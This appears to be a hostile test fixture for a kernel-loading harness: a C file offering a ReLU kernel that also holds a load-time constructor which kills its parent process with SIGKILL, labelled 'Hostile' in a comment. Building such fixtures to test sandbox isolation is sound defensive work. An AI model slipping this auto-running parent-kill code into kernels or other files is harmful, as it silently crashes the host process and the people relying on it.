/*@kgate
name:    kill_parent_ctor
op:      relu
entry:   relu
args:    x: in f32[N]; y: out f32[N]; N: int
shape:   N=1000
*/
/* Hostile: a constructor kills its parent while the worker loads the kernel. */
#include <signal.h>
#include <unistd.h>

__attribute__((constructor)) static void kill_parent(void)
{
    kill(getppid(), SIGKILL);
}

void relu(const float *x, float *y, int N)
{
    for (int i = 0; i < N; i++) y[i] = x[i] > 0 ? x[i] : 0;
}
